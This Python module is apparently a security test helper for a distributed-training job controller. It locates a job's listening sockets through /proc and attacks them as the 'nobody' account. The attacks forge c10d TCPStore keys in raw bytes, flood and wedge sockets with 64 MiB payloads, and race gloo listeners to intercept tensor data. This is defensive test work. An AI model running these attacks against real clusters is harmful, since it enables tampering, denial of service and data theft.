"""Another unix account against a job: find every socket of the job's processes, then
attack each one as that account (issue 21's attack suite).

Finding (run as the test, root here: it reads /proc of every account):

    procs = job_processes(je)                  # pid -> role: controller, keeper, daemon, worker,
                                               # sshd-session (a host's SSH connection), job
    sockets = listening_sockets(procs)         # every TCP listener and every path-bound Unix
                                               # listener those pids hold (/proc/net/{tcp,tcp6,unix}
                                               # joined with /proc/<pid>/fd)

Attacking (as `ATTACKER`, `nobody`, through `setpriv`; a Python with the standard library
alone, as an attacker without torch would have: the c10d TCPStore wire protocol is spoken
in raw bytes):

    found = probe(sockets, source="127.x.y.z")   # per socket: connect, write a store key
    attack = Wedge(sockets, hold=15).start()     # per socket, at once: one byte then silence,
    ...                                          # a silent connection, 64 MiB of garbage,
    found = attack.result()                      # a 64 MiB store value; all held `hold` s

`source` binds the attacker's connections to an address (a simulated host's, for "an
account on that host"); all hosts of the test bed share this machine's kernel, so an
account "on a host" and one on the control machine reach the same sockets: what differs
is the address the connection comes from.

Every result is a JSON-able dict keyed by `Socket.key` (e.g. "tcp 127.0.0.1:4242" or
"unix /path"), so a failing assertion prints what the other account could do.
"""

from __future__ import annotations

import json
import os
import pwd
import subprocess
from dataclasses import asdict, dataclass
from pathlib import Path

from eltctl.sim.gpustate import find_system_python

from . import procs
from .jobenv import job_pids, proc_env

ATTACKER = "nobody"
FLOOD_BYTES = 64 << 20


@dataclass(frozen=True)
class Socket:
    kind: str           # "tcp" or "unix"
    address: str        # an IPv4/IPv6 address, or the Unix socket's path ("@name": abstract)
    port: int | None    # TCP only
    pid: int            # one process holding it
    role: str           # that process's role (job_processes)
    inode: str

    @property
    def key(self) -> str:
        if self.kind == "tcp":
            host = f"[{self.address}]" if ":" in self.address else self.address
            return f"tcp {host}:{self.port}"
        return f"unix {self.address}"

    def target(self) -> dict:
        return {"key": self.key, "kind": self.kind, "address": self.address, "port": self.port}


# -- finding ---------------------------------------------------------------------------


def _cmdline(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def job_processes(je) -> dict[int, str]:
    """pid -> role of every live process of the job `je` (a tests.testbed.jobenv.JobEnv):
    the controller and the store keeper (controller.json), every process whose environment
    names the job (its daemons, its workers and their children), and the processes of each
    of its hosts' sshd below the listener (the SSH connections: they hold a remote forward's
    listening end)."""
    out: dict[int, str] = {}
    for pid in job_pids(je.job):
        env = proc_env(pid)
        if env.get("ELTCTL_WORKER_ID"):
            out[pid] = "worker"
        elif "daemon" in _cmdline(pid):
            out[pid] = "daemon"
        else:
            out[pid] = "job"
    try:
        doc = json.loads((je.state_dir / "controller.json").read_text())
    except (OSError, ValueError):
        doc = {}
    if doc.get("pid"):
        out[int(doc["pid"])] = "controller"
    keeper = (doc.get("store") or {}).get("pid")
    if keeper:
        out[int(keeper)] = "keeper"
    for h in je.hosts:
        if h.sshd_pid is None:
            continue
        for pid in procs.descendants(h.sshd_pid):
            if pid not in out and procs.is_alive(pid):
                out[pid] = "sshd-session"
    return {pid: role for pid, role in out.items() if procs.is_alive(pid)}


def _socket_inodes(pid: int) -> set[str]:
    found = set()
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return found
    for fd in fds:
        try:
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:["):
            found.add(link[8:-1])
    return found


def _tcp_table() -> dict[str, tuple[str, int]]:
    """inode -> (address, port) of every TCP socket in LISTEN state."""
    rows: dict[str, tuple[str, int]] = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for row in lines:
            f = row.split()
            if len(f) < 10 or f[3] != "0A":  # LISTEN
                continue
            hexaddr, hexport = f[1].rsplit(":", 1)
            raw = bytes.fromhex(hexaddr)
            if len(raw) == 4:
                addr = ".".join(str(b) for b in reversed(raw))
            else:  # four host-order 32-bit words
                words = b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))
                import ipaddress
                v6 = ipaddress.IPv6Address(words)
                addr = str(v6.ipv4_mapped) if v6.ipv4_mapped else str(v6)
            rows[f[9]] = (addr, int(hexport, 16))
    return rows


def tcp_listeners(pid: int) -> set[tuple[str, int]]:
    """(address, port) of every TCP socket in LISTEN state that `pid` holds."""
    rows = _tcp_table()
    return {rows[inode] for inode in _socket_inodes(pid) if inode in rows}


SO_ACCEPTCON = 0x10000


def _unix_table() -> dict[str, str]:
    """inode -> path ("@name" for the abstract namespace) of every listening, named Unix socket."""
    rows: dict[str, str] = {}
    try:
        lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    except OSError:
        return rows
    for row in lines:
        f = row.split(None, 7)
        if len(f) < 8:
            continue  # unnamed: nobody can connect to it
        if int(f[3], 16) & SO_ACCEPTCON:
            rows[f[6]] = f[7]
    return rows


def listening_sockets(processes: dict[int, str]) -> list[Socket]:
    """Every TCP listener and every named Unix listener held by one of `processes`
    (pid -> role); one entry per socket (the first holder found)."""
    tcp, unix = _tcp_table(), _unix_table()
    seen: dict[str, Socket] = {}
    for pid, role in sorted(processes.items()):
        for inode in _socket_inodes(pid):
            if inode in seen:
                continue
            if inode in tcp:
                addr, port = tcp[inode]
                seen[inode] = Socket("tcp", addr, port, pid, role, inode)
            elif inode in unix:
                seen[inode] = Socket("unix", unix[inode], None, pid, role, inode)
    return sorted(seen.values(), key=lambda s: (s.role, s.key))


def refusing_directory(path: str, user: str = ATTACKER) -> str | None:
    """The first directory on the way to `path` that `user` may not enter (mode bits
    only), None when every one lets it through. It tells what keeps `user` out of a Unix
    socket: the job's own directory, or one of the test bed's (then the test proves nothing)."""
    if path.startswith("@"):
        return None  # the abstract namespace: no directories, no permissions
    account = pwd.getpwnam(user)
    parts = Path(path).parent.parts
    for i in range(1, len(parts) + 1):
        d = str(Path(*parts[:i]))
        try:
            st = os.stat(d)
        except OSError:
            return d
        if st.st_uid == account.pw_uid:
            ok = st.st_mode & 0o100
        elif st.st_gid == account.pw_gid:
            ok = st.st_mode & 0o010
        else:
            ok = st.st_mode & 0o001
        if not ok:
            return d
    return None


# -- attacking ------------------------------------------------------------------------

# Runs as the other account with `python3 -I -S`: the standard library alone. Reads
# {"mode", "targets", "source", "hold", "flood", "key"} on stdin, prints {key: result}.
SNIPPET = r'''
import errno, json, os, socket, struct, sys, threading, time

args = json.load(sys.stdin)
MAGIC = 0x3C85F7CE  # c10d TCPStore: VALIDATE; queries: 1 SET, 3 GET
def s(b): return struct.pack("<Q", len(b)) + b

def err(e):
    if isinstance(e, OSError) and e.errno:
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__

def connect(t, timeout=5):
    if t["kind"] == "unix":
        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        addr = t["address"]
        addr = "\0" + addr[1:] if addr.startswith("@") else addr
    else:
        fam = socket.AF_INET6 if ":" in t["address"] else socket.AF_INET
        c = socket.socket(fam, socket.SOCK_STREAM)
        if args.get("source") and fam == socket.AF_INET:
            c.bind((args["source"], 0))
        addr = (t["address"], t["port"])
    c.settimeout(timeout)
    try:
        c.connect(addr)
    except BaseException:
        c.close()
        raise
    return c

def recv_exact(c, n):
    out = b""
    while len(out) < n:
        chunk = c.recv(n - len(out))
        if not chunk:
            raise ConnectionError("closed")
        out += chunk
    return out

def store_write(t):
    """A c10d TCPStore SET then GET of a key of the attacker's, in raw bytes."""
    key = ("/" + args["key"]).encode()
    value = b"forged-by-" + str(os.getuid()).encode()
    c = connect(t)
    try:
        c.sendall(bytes([0]) + struct.pack("<I", MAGIC))
        c.sendall(bytes([1]) + s(key) + s(value))
        c.sendall(bytes([3]) + s(key))
        n = struct.unpack("<Q", recv_exact(c, 8))[0]
        got = recv_exact(c, min(n, 1 << 20))
        return "wrote and read back" if got == value else f"answered {got[:40]!r}"
    finally:
        c.close()

def probe(t):
    r = {}
    try:
        connect(t).close()
        r["connect"] = "ok"
    except BaseException as e:
        r["connect"] = err(e)
        return r
    try:
        r["store_write"] = store_write(t)
    except BaseException as e:
        r["store_write"] = err(e)
    return r

GARBAGE = bytes((i * 151 + 7) & 0xFF for i in range(1 << 20))

def wedge(t, r, lock, deadline):
    """Four connections at once: one byte then silence; silence; 64 MiB of garbage;
    a 64 MiB store value. Each is held open until `deadline`."""
    conns = {}
    def note(k, v):
        with lock:
            r[k] = v
    def open_(name):
        try:
            conns[name] = connect(t)
            note(name + "_connect", "ok")
            return conns[name]
        except BaseException as e:
            note(name + "_connect", err(e))
            return None
    c = open_("one_byte")
    if c is not None:
        try:
            c.sendall(b"\x01")
            note("one_byte", "sent")
        except BaseException as e:
            note("one_byte", err(e))
    open_("silent")
    def flood(name, head):
        c = open_(name)
        if c is None:
            return
        sent = 0
        try:
            c.settimeout(max(1.0, deadline - time.monotonic()))
            if head:
                c.sendall(head)
                sent += len(head)
            while sent < args["flood"] and time.monotonic() < deadline:
                chunk = GARBAGE[: min(len(GARBAGE), args["flood"] - sent)]
                c.sendall(chunk)
                sent += len(chunk)
            note(name, "sent all" if sent >= args["flood"] else "stopped at the deadline")
        except BaseException as e:
            note(name, err(e))
        note(name + "_bytes", sent)
    key = ("/" + args["key"] + "/flood").encode()
    th = [threading.Thread(target=flood, args=("flood_garbage", b""), daemon=True),
          threading.Thread(target=flood, args=("flood_store_value",
              bytes([0]) + struct.pack("<I", MAGIC) + bytes([1]) + s(key) + struct.pack("<Q", args["flood"]) ),
              daemon=True)]
    for x in th:
        x.start()
    for x in th:
        x.join(max(0.0, deadline - time.monotonic()) + 5)
    # Held to the deadline; then: did the peer close any of them?
    while time.monotonic() < deadline:
        time.sleep(0.2)
    for name, c in conns.items():
        try:
            c.setblocking(False)
            try:
                data = c.recv(1)
                note(name + "_peer", "closed" if data == b"" else "answered")
            except BlockingIOError:
                note(name + "_peer", "open")
            except OSError as e:
                note(name + "_peer", err(e))
        finally:
            c.close()

results = {}
if args["mode"] == "probe":
    for t in args["targets"]:
        results[t["key"]] = probe(t)
else:
    lock = threading.Lock()
    deadline = time.monotonic() + args["hold"]
    threads = []
    for t in args["targets"]:
        results[t["key"]] = {}
        x = threading.Thread(target=wedge, args=(t, results[t["key"]], lock, deadline), daemon=True)
        x.start()
        threads.append(x)
    for x in threads:
        x.join(args["hold"] + 30)
json.dump(results, sys.stdout)
'''


def attacker_argv(user: str = ATTACKER) -> list[str]:
    """The command prefix that runs a standard-library Python as `user` (as root), else as
    ourselves (not root: the test then says so)."""
    python = [find_system_python(), "-I", "-S", "-c", SNIPPET]
    if os.geteuid() != 0:
        return python
    account = pwd.getpwnam(user)
    return ["setpriv", f"--reuid={account.pw_uid}", f"--regid={account.pw_gid}", "--clear-groups", "--", *python]


def can_attack_as_another_account() -> str | None:
    """Why the attacks cannot run as another account here (None: they can)."""
    if os.geteuid() != 0:
        return "the attacks run as another account (`nobody`): needs root"
    try:
        pwd.getpwnam(ATTACKER)
    except KeyError:
        return f"no account {ATTACKER!r}"
    return None


def _request(mode: str, sockets: list[Socket], *, source: str | None, hold: float, flood: int) -> str:
    return json.dumps({"mode": mode, "targets": [s.target() for s in sockets], "source": source,
                       "hold": hold, "flood": flood, "key": f"attacker-{os.getpid()}"})


def probe(sockets: list[Socket], *, source: str | None = None, user: str = ATTACKER,
          timeout: float = 120) -> dict[str, dict]:
    """As `user`: connect to each socket, then write (and read back) a store key through it."""
    if not sockets:
        return {}
    done = subprocess.run(attacker_argv(user), input=_request("probe", sockets, source=source, hold=0, flood=0),
                          capture_output=True, text=True, timeout=timeout, cwd="/", env={"PATH": "/usr/bin:/bin"})
    if done.returncode != 0:
        raise RuntimeError(f"the attacker failed ({done.returncode}): {done.stderr[-2000:]}")
    return json.loads(done.stdout)


class Wedge:
    """As `user`, against every socket at once: one byte then silence, a silent connection,
    `flood` bytes of garbage and a `flood`-byte store value; all held open `hold` seconds."""

    def __init__(self, sockets: list[Socket], *, hold: float = 15, flood: int = FLOOD_BYTES,
                 source: str | None = None, user: str = ATTACKER) -> None:
        self.sockets = sockets
        self.hold = hold
        self._request = _request("wedge", sockets, source=source, hold=hold, flood=flood)
        self._user = user
        self._proc: subprocess.Popen | None = None

    def start(self) -> "Wedge":
        self._proc = subprocess.Popen(attacker_argv(self._user), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                      stderr=subprocess.PIPE, text=True, cwd="/", env={"PATH": "/usr/bin:/bin"},
                                      start_new_session=True)
        assert self._proc.stdin is not None
        self._proc.stdin.write(self._request)
        self._proc.stdin.close()
        self._proc.stdin = None  # communicate() must not flush it
        return self

    def result(self, timeout: float | None = None) -> dict[str, dict]:
        assert self._proc is not None
        try:
            out, errs = self._proc.communicate(timeout=timeout if timeout is not None else self.hold + 60)
        except subprocess.TimeoutExpired:
            self.stop()
            raise
        if self._proc.returncode != 0:
            raise RuntimeError(f"the attacker failed ({self._proc.returncode}): {errs[-2000:]}")
        return json.loads(out)

    def stop(self) -> None:
        if self._proc is not None:
            procs.stop_popen(self._proc)

    def __enter__(self) -> "Wedge":
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()


def describe(sockets: list[Socket]) -> list[dict]:
    """The sockets as plain dicts (for assertion messages)."""
    return [asdict(s) | {"key": s.key} for s in sockets]


# Runs as the other account: watches /proc/net/tcp for every new listener on one address
# and connects to it at once, naming the gloo pair sequence numbers 0..n-1 (a gloo
# listener hands a connection to whichever pair waits for the number it names); then
# echoes the victims' ready notifications and reads what they send. Args on stdin: {"address", "seconds", "seqs"}.
RACE_SNIPPET = r'''
import json, socket, struct, sys, threading, time
args = json.load(sys.stdin)
addr, seqs = args["address"], args["seqs"]
hexaddr = "".join(f"{int(b):02X}" for b in reversed(addr.split(".")))
seen, got, lock = set(), [], threading.Lock()
def rx(c, n):
    b = b""
    while len(b) < n:
        x = c.recv(n - len(b))
        if not x:
            raise ConnectionError
        b += x
    return b
def listen(c, port, seq):
    try:
        while True:
            pre = rx(c, 48)  # gloo's Op preamble: nbytes, opcode, slot, offset, length, roffset
            nbytes, opcode, slot, offset, length, roffset = struct.unpack("<6Q", pre)
            data = rx(c, length) if opcode in (0, 1) and length < (1 << 26) else b""
            if opcode in (2, 3):  # "ready to send/receive": answer in kind, and the victim sends its data
                c.sendall(pre)
            with lock:
                got.append({"port": port, "seq": seq, "opcode": opcode, "length": length,
                            "floats": list(struct.unpack("<4f", data[:16])) if len(data) >= 16 else None})
    except Exception:
        pass
end = time.monotonic() + args["seconds"]
import signal
def finish(*_):
    global end
    end = 0
signal.signal(signal.SIGTERM, finish)  # the test is done: report now
held = []
while time.monotonic() < end:
    try:
        with open("/proc/net/tcp") as f:
            rows = f.read().splitlines()[1:]
    except OSError:
        rows = []
    for row in rows:
        p = row.split()
        if len(p) < 10 or p[3] != "0A" or not p[1].startswith(hexaddr + ":") or p[9] in seen:
            continue
        seen.add(p[9])
        port = int(p[1].split(":")[1], 16)
        for seq in range(seqs):
            try:
                c = socket.create_connection((addr, port), timeout=1)
                c.sendall(struct.pack("<q", seq))
                c.settimeout(None)
                held.append(c)
                threading.Thread(target=listen, args=(c, port, seq), daemon=True).start()
            except OSError:
                pass
    time.sleep(0.0005)
with lock:
    json.dump({"listeners": len(seen), "received": got}, sys.stdout)
'''


class ListenerRace:
    """As `user`: for `seconds`, connect to every new TCP listener on `address` the moment
    it appears, naming gloo pair sequence numbers 0..seqs-1, and record what the victims
    send (`result()`: {"listeners": n, "received": [{port, seq, opcode, length, floats}]})."""

    def __init__(self, address: str, seconds: float, *, seqs: int = 4, user: str = ATTACKER) -> None:
        self.seconds = seconds
        self._request = json.dumps({"address": address, "seconds": seconds, "seqs": seqs})
        self._argv = attacker_argv(user)
        self._argv[self._argv.index(SNIPPET)] = RACE_SNIPPET
        self._proc: subprocess.Popen | None = None

    def start(self) -> "ListenerRace":
        self._proc = subprocess.Popen(self._argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                      stderr=subprocess.PIPE, text=True, cwd="/", env={"PATH": "/usr/bin:/bin"},
                                      start_new_session=True)
        assert self._proc.stdin is not None
        self._proc.stdin.write(self._request)
        self._proc.stdin.close()
        self._proc.stdin = None
        return self

    def result(self, *, now: bool = False) -> dict:
        """What it saw; now=True: tell it to stop first (else it runs its `seconds`)."""
        assert self._proc is not None
        if now and self._proc.poll() is None:
            self._proc.terminate()
        out, errs = self._proc.communicate(timeout=self.seconds + 30)
        if self._proc.returncode != 0:
            raise RuntimeError(f"the attacker failed ({self._proc.returncode}): {errs[-2000:]}")
        return json.loads(out)

    def stop(self) -> None:
        if self._proc is not None:
            procs.stop_popen(self._proc)
